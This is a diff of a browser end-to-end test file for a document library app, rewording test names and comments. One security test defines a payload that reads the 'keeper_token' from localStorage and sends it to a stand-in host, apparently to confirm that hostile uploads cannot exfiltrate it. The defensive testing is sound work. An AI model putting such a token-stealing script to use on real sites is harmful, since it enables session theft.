@@ -18,7 +18,7 @@ const text = (name: string, words: string, mimeType = 'text/plain'): Sent => ({
 const card = (page: Page, name: string) => page.getByRole('article', { name, exact: true })
 const search = (page: Page) => page.getByRole('searchbox', { name: 'Search documents' })
 
-/** Ada's, empty; what the shell asks for by itself has been asked for. */
+/** Opens Ada's empty library and waits for the shell's own requests. */
 async function openLibrary(page: Page, keeper: BuiltKeeper) {
   const last = page.waitForRequest(/\/api\/events/)
   await arrive(page, keeper, 'ada', { path: '/library' })
@@ -41,7 +41,7 @@ async function view(page: Page, name: string) {
   return dialog
 }
 
-/** A real PDF of three pages, with fonts of its own in it. */
+/** A real PDF of three pages with embedded fonts. */
 async function pdfOf(page: Page): Promise<Buffer> {
   const maker = await page.context().newPage()
   const next = 'style="break-before: page"'
@@ -53,7 +53,7 @@ async function pdfOf(page: Page): Promise<Buffer> {
   return pdf
 }
 
-test('several files show their progress each, are there after a reload, and no call is made', async ({
+test('uploads show their progress, survive a reload and make no API call', async ({
   page,
   keeper,
   context,
@@ -86,7 +86,7 @@ test('several files show their progress each, are there after a reload, and no c
   await page.getByLabel('Description').fill('Autumn')
   await page.keyboard.press('Escape')
   await page.getByRole('button', { name: 'Edit Choir list.txt' }).click()
-  await expect(page.getByLabel('Description'), 'what was typed is still there').toHaveValue('Autumn')
+  await expect(page.getByLabel('Description'), 'the typed text is still there').toHaveValue('Autumn')
   await page.getByLabel('Tags').fill(' a, b ,, c,d, e')
   await page.getByRole('button', { name: 'Save' }).click()
   await expect(card(page, 'Choir')).toContainText('+2 more')
@@ -107,7 +107,7 @@ test('several files show their progress each, are there after a reload, and no c
   await expectNoBreach(page, 'documents on a phone')
 })
 
-test('what is too large or of another kind is refused in words, and the same bytes are asked about @at-length', async ({
+test('invalid files are refused, and duplicates are asked about @at-length', async ({
   page,
   keeper,
 }) => {
@@ -118,7 +118,7 @@ test('what is too large or of another kind is refused in words, and the same byt
   await upload(page, text('nothing.txt', ''))
   await expect(page.getByText('nothing.txt is empty. Choose a file with something in it.')).toBeVisible()
   await page.getByRole('button', { name: 'Dismiss nothing.txt' }).click()
-  // Chosen on the page: so many bytes cannot be sent through the test runner.
+  // Created in the page, because the test runner can't send this many bytes.
   await page.getByLabel('Choose documents').evaluate((input: HTMLInputElement) => {
     const carried = new DataTransfer()
     carried.items.add(new File([new Uint8Array(50 * 1024 * 1024 + 1)], 'large.txt', { type: 'text/plain' }))
@@ -137,7 +137,7 @@ test('what is too large or of another kind is refused in words, and the same byt
 
   await page.evaluate(() => {
     const put = IDBObjectStore.prototype.put
-    // The words of the document before may still be on their way into their store.
+    // The previous document's text may still be on its way to its store.
     IDBObjectStore.prototype.put = function (this: IDBObjectStore, ...given: Parameters<IDBObjectStore['put']>) {
       if (this.name !== 'blobs') return put.apply(this, given)
       IDBObjectStore.prototype.put = put
@@ -151,7 +151,7 @@ test('what is too large or of another kind is refused in words, and the same byt
   await expect(card(page, 'c.txt')).toBeVisible()
 })
 
-test('of several dropped documents the first is taken, and the page says so until others are browsed for @at-length', async ({
+test('only the first of several dropped documents is taken, with a note @at-length', async ({
   page,
   keeper,
 }) => {
@@ -170,7 +170,7 @@ test('of several dropped documents the first is taken, and the page says so unti
   await expect(page.getByRole('article')).toHaveCount(3)
 })
 
-test('words in a PDF, a page and a letter are found, and a PDF is read page by page', async ({ page, keeper }) => {
+test('text in PDF, HTML and RTF is found, and a PDF is read page by page', async ({ page, keeper }) => {
   await arrive(page, keeper, 'ada', { path: '/library' })
   const lease = { name: 'lease.pdf', mimeType: 'application/pdf', buffer: await pdfOf(page) }
   await uploaded(
@@ -214,7 +214,7 @@ test('words in a PDF, a page and a letter are found, and a PDF is read page by p
   await expect(page.getByRole('dialog', { name: 'lease.pdf' }).getByText('The boathouse clause.')).toBeAttached()
 })
 
-test('a document whose bytes the browser has lost does not keep the words of the others from being found @at-length', async ({
+test("a document with lost bytes doesn't stop the search in others @at-length", async ({
   page,
   keeper,
 }) => {
@@ -247,10 +247,10 @@ test('a document whose bytes the browser has lost does not keep the words of the
   await search(page).fill('jetty')
   await expect(card(page, 'harbour.txt')).toContainText('In the text:')
   await search(page).fill('lost')
-  await expect(card(page, 'lost.txt'), 'by its name it is found').toBeVisible()
+  await expect(card(page, 'lost.txt'), 'found by its name').toBeVisible()
 })
 
-test('documents that would steal the token or call home cannot, whatever they are', async ({ page, keeper }) => {
+test('hostile documents cannot steal the token or call home', async ({ page, keeper }) => {
   await openLibrary(page, keeper)
   const home = 'https://home.example'
   const steal = `top.stolen=localStorage.getItem('keeper_token');fetch('${home}/?'+top.stolen)`
@@ -293,7 +293,7 @@ test('documents that would steal the token or call home cannot, whatever they ar
   expect(asked).toEqual([])
 })
 
-test('a broken document says so and is downloaded as it was @at-length', async ({ page, keeper }) => {
+test('a broken document says so and can be downloaded unchanged @at-length', async ({ page, keeper }) => {
   await arrive(page, keeper, 'ada', { path: '/library' })
   await uploaded(page, text('broken.pdf', 'no PDF at all', 'application/pdf'))
   const dialog = await view(page, 'broken.pdf')
@@ -307,7 +307,7 @@ test('a broken document says so and is downloaded as it was @at-length', async (
   await expect(page.getByRole('dialog', { name: 'Edit document' }).getByLabel('Name')).toHaveValue('broken.pdf')
 })
 
-test('by keyboard: documents are chosen, exported, deleted and brought back @at-length', async ({ page, keeper }) => {
+test('documents are selected, exported, deleted and restored by keyboard @at-length', async ({ page, keeper }) => {
   await arrive(page, keeper, 'ada', { path: '/library' })
   await uploaded(page, text('a.txt', 'words of a'), text('b.txt', 'words of b'))
   await page.getByRole('checkbox', { name: 'Choose a.txt' }).focus()
@@ -334,7 +334,7 @@ test('by keyboard: documents are chosen, exported, deleted and brought back @at-
   await expect(page.getByRole('button', { name: 'Delete a.txt' })).toBeFocused()
 })
 
-test('signing out leaves documents for their person, and nobody else sees them here @at-length', async ({
+test('documents stay with their person after signing out @at-length', async ({
   page,
   keeper,
   watch,
